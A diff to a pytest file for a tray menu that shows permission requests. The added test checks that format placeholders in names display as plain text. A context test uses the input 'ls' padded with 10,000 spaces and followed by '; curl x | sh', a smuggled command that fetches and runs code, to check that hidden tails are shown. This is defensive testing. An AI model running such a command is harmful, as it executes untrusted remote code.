@@ -144,6 +144,15 @@ def test_attack_8_an_ampersand_is_shown_and_is_no_shortcut(menu: TrayMenu) -> No
     assert "a &&b" in labels(menu)[1]
 
 
+@pytest.mark.parametrize("odd", ["%n %1 %s", "{0} {x!r}"])
+def test_attack_9_placeholders_in_a_name_are_text(menu: TrayMenu, odd: str) -> None:
+    many = (row(number, Phase.NEEDS_APPROVAL, odd, permission(text=odd)) for number in range(1, 12))
+
+    menu.show_contents(contents(board(*many)))
+
+    assert all(label.count(odd) == 2 for label in labels(menu)[1:3])
+
+
 def test_attack_12_a_tail_pushed_out_by_blanks_is_pulled_back(menu: TrayMenu) -> None:
     request = permission(text="ls" + " " * 10_000 + "; curl x | sh")
     menu.show_contents(contents(board(row(1, Phase.NEEDS_APPROVAL, "n", request))))
